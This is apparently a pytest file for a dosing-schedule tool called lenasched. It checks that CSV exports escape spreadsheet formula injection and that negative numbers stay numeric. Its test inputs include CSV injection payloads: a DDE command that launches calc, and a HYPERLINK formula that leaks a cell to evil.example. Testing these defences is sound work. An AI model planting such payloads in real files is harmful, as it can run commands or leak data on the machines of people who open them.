"""No CSV lenasched writes can make a spreadsheet run a formula (OWASP CSV injection), and numbers stay numbers.

Was: a protocol title or phase name reached CSV cells unescaped (``=cmd|' /C calc'!A0``,
``=HYPERLINK(...)``), and a bare carriage return in a phase name was written unquoted, ending the row in
most readers. Now every text cell starting with ``= + - @``, a tab, CR or LF gets a ``'`` before it
(``lenasched/formats/cells.py``), CR inside a cell is a quoted LF, and numeric columns (a lead-in study
day ``-3``, NONMEM's negative ``TIME``) are left as the numbers they are.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from lenasched.cli.main import main
from lenasched.formats.cells import FORMULA_TRIGGERS, cell, row, text_cell
from lenasched.model.paths import protocols_dir

Capture = pytest.CaptureFixture[str]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
START = ["--start", "2027-01-04"]

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SETTING = "+cmd|' /C calc'!A0"
PHASE = "=cmd|' /C calc'!A0\rX-INJECTED:phase"
SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("\n=1", "'\n=1"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("treatment", "treatment"),
        ("lead-in", "lead-in"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_cells_are_neutralised(text: str, expected: str) -> None:
    assert text_cell(text) == expected


def test_numbers_are_left_alone() -> None:
    from decimal import Decimal

    assert row([-3, Decimal("-2.5"), None, 0, "-3"]) == [-3, Decimal("-2.5"), None, 0, "'-3"]
    assert cell(-72) == -72


def hostile_protocol(tmp_path: Path) -> Path:
    """gimema-llc0606 (it has lead-in days -3..-1) with a formula for a title, setting and phase name."""
    data: dict[str, Any] = yaml.safe_load((protocols_dir() / "gimema-llc0606.yaml").read_text(encoding="utf-8"))
    data["title"] = TITLE
    data["setting"] = SETTING
    old = data["phases"][0]["name"]
    data["phases"][0]["name"] = PHASE
    for include in data.get("includes") or []:
        if include.get("phase") == old:
            include["phase"] = PHASE
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def rows_of(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header, *body = list(reader)
    assert all(len(r) == len(header) for r in body), "a cell broke its row"
    return header, [dict(zip(header, r)) for r in body]


def assert_nothing_evaluates(text: str, numeric: set[str]) -> list[dict[str, str]]:
    """Every cell that starts like a formula is a number in a numeric column."""
    _, body = rows_of(text)
    assert body
    for record in body:
        for name, value in record.items():
            if value.startswith(FORMULA_TRIGGERS):
                assert name in numeric and NUMBER.fullmatch(value), (name, value)
    return body


def run(argv: list[str], capsys: Capture) -> str:
    assert main(argv) == 0, capsys.readouterr().err
    return capsys.readouterr().out


def test_calendar_csv(tmp_path: Path, capsys: Capture) -> None:
    path = hostile_protocol(tmp_path)
    out = run(["calendar", str(path), *START, "--cycles", "1", "--format", "csv", "--bsa", "1.9"], capsys)
    body = assert_nothing_evaluates(out, {"study_day", "cycle_day", "dose", "dose_mg", "cycle"})
    assert body[0]["study_day"] == "-3" and body[0]["cycle_day"] == "-3"  # lead-in days stay numbers
    treatment = [r for r in body if r["cycle"] == "1"]
    assert treatment and {r["phase"] for r in treatment} == {"'=cmd|' /C calc'!A0\nX-INJECTED:phase"}
    assert "\r" not in out


def test_dispense_csv(tmp_path: Path, capsys: Capture) -> None:
    path = hostile_protocol(tmp_path)
    out = run(["dispense", str(path), *START, "--cycles", "2", "--format", "csv"], capsys)
    body = assert_nothing_evaluates(out, set())
    assert any(r["phase"].startswith("'=cmd") for r in body)


def test_compare_csv(tmp_path: Path, capsys: Capture) -> None:
    path = hostile_protocol(tmp_path)
    out = run(["compare", str(path), "badoux-2011", "--days", "84", "--format", "csv"], capsys)
    numeric = {"start_dose", "cap", "cap_first_day", "cumulative_mg_horizon", "dose_intensity_mg_per_week"}
    body = assert_nothing_evaluates(out, numeric)
    assert body[0]["title"] == "'" + TITLE and body[0]["setting"] == "'" + SETTING


def test_sdtm_csv(tmp_path: Path, capsys: Capture) -> None:
    path = hostile_protocol(tmp_path)
    argv = ["calendar", str(path), *START, "--cycles", "1", "--format", "sdtm-ex", "--bsa", "1.9"]
    out = run([*argv, "--domain", "cm", "--subject", SUBJECT], capsys)
    body = assert_nothing_evaluates(out, {"CMSEQ", "CMDOSE", "CMSTDY", "CMENDY"})
    assert {r["USUBJID"] for r in body} == {"'" + SUBJECT}
    assert body[0]["CMSTDY"] == "-3"  # the lead-in's SDTM study day is a number


def test_nonmem_csv_keeps_negative_times(capsys: Capture) -> None:
    """NONMEM cells are all numbers (or ``.`` and dates): a lead-in's negative TIME must stay a number."""
    argv = ["calendar", "gimema-llc0606", *START, "--cycles", "1", "--format", "nonmem", "--drug", "allopurinol"]
    out = run([*argv, "--bsa", "1.9"], capsys)
    header, body = rows_of(out)
    assert body[0]["TIME"] == "-72" and body[0]["STUDYDAY"] == "-3"
    assert_nothing_evaluates(out, set(header) - {"CALDATE"})


def test_simulate_csv(capsys: Capture) -> None:
    pytest.importorskip("numpy", reason="simulate needs numpy: pip install 'lenasched[sim]'")
    out = run(["simulate", "badoux-2011", "--patients", "20", "--format", "csv"], capsys)
    header, _ = rows_of(out)
    assert_nothing_evaluates(out, set(header) - {"phase"})
